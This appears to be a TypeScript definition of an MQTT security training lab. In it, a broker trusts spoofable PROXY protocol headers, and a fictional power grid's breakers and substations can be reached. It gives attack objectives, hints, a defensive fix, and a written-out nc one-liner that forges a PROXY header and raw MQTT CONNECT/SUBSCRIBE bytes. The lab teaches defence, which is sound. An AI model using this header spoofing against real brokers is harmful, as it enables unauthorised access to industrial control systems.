import {
  attackObjective,
  count,
  defenceObjective,
  defineLab,
  happened,
  mqtt5,
  mqtt311,
  sequence,
} from '../../src/lab-kit/index.ts';

const viaProxy = { address: '10.0.0.3' } as const;
const edge = { listener: 'edge' } as const;

export default defineLab({
  id: 'proxy-header-spoof',
  number: 28,
  chapter: '09-infrastructure',
  title: 'I come from inside',
  summary: 'A line of text in front of CONNECT says who you are and where you come from. Anybody can write it.',
  story:
    'Volta runs a small power grid. HAProxy at 10.0.0.3 takes TLS off, checks the certificates of the substations, and tells the broker ' +
    'in a PROXY header whose connection this is. The control room has a listener of its own on the office network. You are a ' +
    'customer, may read grid/public, and you noticed that the broker’s port answers without HAProxy in between.',
  minutes: 15,
  weakness: {
    cwe: 'CWE-290',
    statement:
      'PROXY headers are believed whoever sends them, and the address and the certificate’s name in them decide what is allowed.',
  },
  specs: [mqtt311('3.1.0-1'), mqtt5('3.1.0-1'), mqtt5('5.4.1'), mqtt5('5.4.8')],
  protocolVersions: [4, 5],
  listeners: [
    { name: 'ws', transport: 'ws' },
    { name: 'edge', transport: 'tcp' },
    { name: 'internal', transport: 'tcp' },
  ],

  secrets: [
    { id: 'customer', kind: 'password', length: 16, given: true, meaning: 'password of your account, customer' },
    { id: 'service', kind: 'digits', length: 2, meaning: 'PIN of the technicians, two digits' },
    { id: 'control', kind: 'password', length: 16, meaning: 'password of the control room' },
    { id: 'solar-3', kind: 'password', length: 16, meaning: 'password of the solar roof' },
    { id: 'health', kind: 'password', length: 16, meaning: 'password of HAProxy’s health check' },
  ],

  devices: [
    {
      id: 'control',
      actor: 'operator:control',
      kind: 'display',
      label: 'Control room',
      clientId: 'control',
      userName: 'control',
      firmware: { listener: 'internal' },
      topics: { 'watch-load': 'grid/+/load', 'watch-state': 'grid/+/state' },
    },
    {
      id: 'substation-1',
      actor: 'device:substation-1',
      kind: 'meter',
      label: 'Substation 1',
      clientId: 'substation-1',
      userName: 'substation-1',
      firmware: edge,
      behindProxy: { ...viaProxy, header: 'v2', commonName: 'substation-1' },
      topics: { reading: 'grid/substation-1/load' },
    },
    {
      id: 'breaker-1',
      actor: 'device:breaker-1',
      kind: 'valve',
      label: 'Breaker 1',
      clientId: 'breaker-1',
      userName: 'breaker-1',
      firmware: edge,
      behindProxy: { ...viaProxy, header: 'v2', commonName: 'breaker-1' },
      topics: { state: 'grid/breaker-1/state', cmd: 'grid/breaker-1/cmd' },
    },
    {
      id: 'solar-3',
      actor: 'device:solar-3',
      kind: 'meter',
      label: 'Solar roof 3',
      clientId: 'solar-3',
      userName: 'solar-3',
      firmware: edge,
      behindProxy: { ...viaProxy, header: 'v1' },
      topics: { reading: 'grid/public/solar-3' },
    },
    {
      id: 'haproxy',
      actor: 'device:haproxy',
      kind: 'gateway',
      label: 'HAProxy, health check',
      clientId: 'health',
      userName: 'health',
      firmware: edge,
      behindProxy: { ...viaProxy, header: 'local' },
      topics: { announce: 'grid/health' },
    },
  ],

  topology: {
    nodes: [
      { id: 'broker', x: 62, y: 28 },
      { id: 'haproxy', x: 38, y: 12 },
      { id: 'substation-1', x: 10, y: 8 },
      { id: 'breaker-1', x: 10, y: 28 },
      { id: 'solar-3', x: 10, y: 48 },
      { id: 'control', x: 90, y: 12 },
      { id: 'attacker', x: 62, y: 53 },
    ],
  },

  objectives: [
    attackObjective(
      'A1',
      'Have the broker take you for somebody of the office network, and receive the load of a substation.',
      sequence(
        happened('proxy.accepted', { actor: 'attacker', sourceAddress: { present: true } }),
        happened('message.delivered', { actor: 'attacker', topicName: { topicFilter: 'grid/+/load' } }),
      ),
    ),
    attackObjective(
      'A2',
      'Sign in as the technicians’ account, whose PIN you guess from ever new addresses.',
      count(happened('connect.accepted', { actor: 'attacker', principal: 'service' }), 1),
    ),
    attackObjective(
      'A3',
      'Become grid-admin without any password or certificate, and open breaker 1.',
      sequence(
        happened('connect.accepted', { actor: 'attacker', principal: 'grid-admin', method: 'certificate' }),
        happened('device.changed', { deviceId: 'breaker-1', property: 'valve', to: 'open', causeActor: 'attacker' }),
      ),
    ),
    defenceObjective('D1', 'Believe HAProxy and nobody else, and let no address stand for a person.'),
  ],

  hints: [
    'Who wrote that header? On the port of the listener `edge` the first bytes are yours. A line “PROXY TCP4 10.0.0.5 10.0.0.1 40000 1883”, CR LF, and then CONNECT: see what `proxy.accepted` says.',
    'The address of the socket is the one thing in the game that its sender cannot choose. Bind trust to it and to the listener: HAProxy is one address. Then ask of each rule that begins with `address:` whom it really means, and of each listener who is supposed to reach it.',
    'listeners.edge.proxy: `"trusted": ["10.0.0.3/32"], "requireHeader": true`, identityFromTls as it is. listeners.internal: `"reachableFrom": ["10.0.0.0/8"]`. In place of the rule for address:10.0.0.0/8, one for user:control with grid/+/load and grid/+/state to read and grid/+/cmd to write.',
  ],

  ownTools: [
    {
      tool: 'nc',
      purpose:
        'A header, CONNECT with your account, SUBSCRIBE to grid/#: three things in one line, and five seconds to listen',
      command:
        "(printf 'PROXY TCP4 10.0.0.5 10.0.0.1 40000 1883\\r\\n'; printf '\\020\\060\\000\\004MQTT\\004\\302\\000\\074\\000\\010customer\\000\\010customer\\000\\020{{secret:customer}}'; printf '\\202\\013\\000\\001\\000\\006grid/#\\000'; sleep 5) | nc {{host}} {{port:edge}} | strings",
    },
    {
      tool: 'mosquitto_sub',
      purpose: 'Without a header, as an ordinary client, past HAProxy',
      command:
        "mosquitto_sub -h {{host}} -p {{port:edge}} -i customer -u customer -P '{{secret:customer}}' -t 'grid/public/#' -v",
    },
    {
      tool: 'nmap',
      purpose: 'What a scan says of the two ports',
      command: 'nmap -Pn -sV -p {{port:edge}},{{port:internal}} {{host}}',
    },
  ],

  defaultTopics: ['grid/#', 'grid/public/#', 'grid/substation-1/load', 'grid/breaker-1/cmd', 'grid/breaker-1/state'],
});
